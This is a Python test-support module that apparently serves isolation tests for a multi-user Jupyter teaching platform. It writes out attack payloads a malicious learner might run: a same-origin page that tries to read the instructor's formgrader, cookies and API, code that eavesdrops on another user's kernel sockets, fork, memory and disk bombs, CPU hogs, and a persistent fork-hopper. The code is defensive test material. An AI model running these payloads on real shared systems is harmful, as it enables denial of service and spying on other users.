"""What a learner with bad intent runs in her own kernel (test_attacks.py): each attack a piece of code, bounded, that
prints what it got as JSON on its last line."""

from __future__ import annotations

import json

#: ~/.jupyter/jupyter_server_config.py that would make her server serve a page of hers, unauthenticated, on the
#: hub's origin (JupyterHub's own static route), if her server read it.
USER_CONFIG = """
import os
os.makedirs(os.path.expanduser("~/.jupyter"), exist_ok=True)
os.makedirs(os.path.expanduser("~/evil"), exist_ok=True)
open(os.path.expanduser("~/evil/evil.html"), "w").write("<script>/* EVIL-PAGE */</script>")
open(os.path.expanduser("~/.jupyter/jupyter_server_config.py"), "w").write(
    "c.ServerApp.extra_static_paths = [" + repr(os.path.expanduser("~/evil")) + "]\\n")
print("written")
"""

#: The page a learner would serve on the hub's origin, opened by the instructor: it tries to read the formgrader in
#: a popup, to read its API with the instructor's cookies, and to start a kernel there.
POPUP_PAGE = """<!doctype html><title>a learner's page</title><button id=go>go</button><script>
document.getElementById("go").onclick = async () => {
  const fg = document.body.dataset.fg, out = {};
  const w = window.open(fg + "/formgrader/manage_assignments");
  await new Promise(r => setTimeout(r, 2500));
  try { out.popup = "READ " + w.document.title; } catch (e) { out.popup = "blocked: " + e.name; }
  try { out.xsrf = "READ " + w.document.cookie; } catch (e) { out.xsrf = "blocked: " + e.name; }
  if (w) w.close();
  try { const r = await fetch(fg + "/formgrader/api/students", {credentials: "include"});
        out.api = "READ " + r.status + " " + (await r.text()).slice(0, 40);
  } catch (e) { out.api = "blocked: " + e.name; }
  try { await fetch(fg + "/api/kernels", {method: "POST", credentials: "include", mode: "no-cors", body: "{}"});
        out.kernel = "sent blind"; } catch (e) { out.kernel = "blocked: " + e.name; }
  window.RESULT = out;
};
</script>"""


def listen_code(ben: str, seconds: float) -> str:
    """Find ben's kernels' ports (/proc/net/tcp) and sockets (/proc/net/unix), subscribe to all of them and to his
    runtime folder for `seconds`; what was found and heard."""
    return f"""
import json, os, pwd, socket, time, zmq
ben = pwd.getpwnam({ben!r}).pw_uid
result, ports = {{}}, []
for name in ("/proc/net/tcp", "/proc/net/tcp6"):
    for line in open(name).read().splitlines()[1:]:
        f = line.split()
        if f[3] == "0A" and int(f[7]) == ben:
            ports.append(int(f[1].rsplit(":", 1)[1], 16))
result["ben_tcp_listening"] = ports
runtime = f"/run/pathways-kernels/{{ben}}"
try:
    result["runtime_folder"] = "LISTED " + str(os.listdir(runtime))
except OSError as exc:
    result["runtime_folder"] = type(exc).__name__
paths = [l.split()[-1] for l in open("/proc/net/unix").read().splitlines()[1:] if runtime in l]
result["ben_sockets_seen"] = len(paths)
for path in paths[:1]:
    try:
        socket.socket(socket.AF_UNIX).connect(path)
        result["unix_connect"] = "CONNECTED"
    except OSError as exc:
        result["unix_connect"] = type(exc).__name__
ctx = zmq.Context()
subs = []
for url in [f"tcp://127.0.0.1:{{p}}" for p in ports] + [f"ipc://{{p}}" for p in paths]:
    s = ctx.socket(zmq.SUB)
    s.setsockopt(zmq.SUBSCRIBE, b"")
    s.connect(url)
    subs.append(s)
poller = zmq.Poller()
for s in subs:
    poller.register(s, zmq.POLLIN)
heard, end = 0, time.monotonic() + {seconds}
while time.monotonic() < end:
    for s, _ in poller.poll(200):
        heard += sum(b"SECRET" in part for part in s.recv_multipart())
result["heard"] = heard
print(json.dumps(result))
"""


def _bomb(body: str, ready: str) -> str:
    """A bomb run as a child of her kernel (so the kernel itself survives to report), signalling `ready` (a file
    in her home the test watches) when it is at its worst."""
    return f"""
import json, os, subprocess, sys
ready = os.path.expanduser({ready!r})
child = subprocess.run([sys.executable, "-c", {body!r}, ready], capture_output=True, text=True, timeout=120)
print(json.dumps({{"rc": child.returncode, "out": child.stdout.strip().splitlines()[-1:] or [""],
                  "err": child.stderr.strip()[-300:]}}))
"""


def memory_bomb(ready: str, children: int = 10, mb: int = 300, hold: float = 5) -> str:
    """`children` processes of `mb` MB each (touched), held for `hold` s: 3 GB if nothing stops her."""
    body = f"""
import os, sys, time
pids = []
for i in range({children}):
    pid = os.fork()
    if pid == 0:
        block = bytearray({mb} * 1024 * 1024)
        for j in range(0, len(block), 4096):
            block[j] = 1
        time.sleep({hold})
        os._exit(0)
    pids.append(pid)
    time.sleep(0.05)
open(sys.argv[1], "w").write("ready")
killed = sum(os.waitpid(p, 0)[1] & 0x7f == 9 for p in pids)
print(f"{{killed}} of {children} killed")
"""
    return _bomb(body, ready)


def fork_bomb(ready: str, most: int = 2000, hold: float = 5) -> str:
    """Processes started until fork fails (or `most`), each living `hold` s."""
    body = f"""
import os, sys, time
pids, failed = [], None
while len(pids) < {most}:
    try:
        pid = os.fork()
    except OSError as exc:
        failed = exc.errno
        break
    if pid == 0:
        time.sleep({hold})
        os._exit(0)
    pids.append(pid)
open(sys.argv[1], "w").write("ready")
for p in pids:
    os.waitpid(p, 0)
print(f"{{len(pids)}} started; fork then failed with errno {{failed}}")
"""
    return _bomb(body, ready)


def disk_bomb(ready: str, most_mb: int = 2048) -> str:
    """Her home, /tmp and /dev/shm filled with 1 MB writes until one fails (or `most_mb` each); then removed."""
    body = f"""
import os, sys
chunk, wrote = b"x" * (1024 * 1024), {{}}
for place in (os.path.expanduser("~/fill"), "/tmp/fill", "/dev/shm/fill"):
    n = 0
    try:
        with open(place, "wb") as fh:
            while n < {most_mb}:
                fh.write(chunk)
                fh.flush()
                n += 1
    except OSError:
        pass
    wrote[place] = n
home_fill = os.path.expanduser("~/fill")
os.truncate(home_fill, max(0, os.path.getsize(home_fill) - 1024 * 1024))  # room for the ready file
open(sys.argv[1], "w").write("ready")
print(sum(wrote.values()), "MB written", wrote)
"""
    return _bomb(body, ready) + "\nimport os\nfor p in ('~/fill', '/tmp/fill', '/dev/shm/fill'):\n" \
        "    try:\n        os.unlink(os.path.expanduser(p))\n    except OSError:\n        pass\n"


def cpu_hogs(ready: str, count: int = 4, seconds: float = 6) -> str:
    """`count` busy processes, each in a session of its own (this machine's scheduler groups by session)."""
    body = f"""
import os, sys, time
pids = []
for i in range({count}):
    pid = os.fork()
    if pid == 0:
        os.setsid()
        end = time.monotonic() + {seconds}
        while time.monotonic() < end:
            pass
        os._exit(0)
    pids.append(pid)
open(sys.argv[1], "w").write("ready")
for p in pids:
    os.waitpid(p, 0)
print("{count} hogs done")
"""
    return _bomb(body, ready)


#: Left for `stop` to find: a process that forks and exits every few ms (in a session of its own), a SysV shared
#: memory segment, files in /tmp and /dev/shm. Prints what it made.
LEAVE_BEHIND = """
import ctypes, json, os, time
libc = ctypes.CDLL(None, use_errno=True)
shmid = libc.shmget(0, 1024 * 1024, 0o1000 | 0o600)  # IPC_PRIVATE, IPC_CREAT
open("/tmp/left-by-ana", "w").write("x")
open("/dev/shm/left-by-ana", "wb").write(b"x" * (16 * 1024 * 1024))
if os.fork() == 0:
    os.setsid()
    while True:  # the fork-hopper: a new process every few ms, the old one gone
        if os.fork():
            os._exit(0)
        time.sleep(0.003)
print(json.dumps({"shmid": shmid}))
"""


def last_json(out: str) -> dict:
    """The JSON an attack printed last."""
    return json.loads(out.strip().splitlines()[-1])
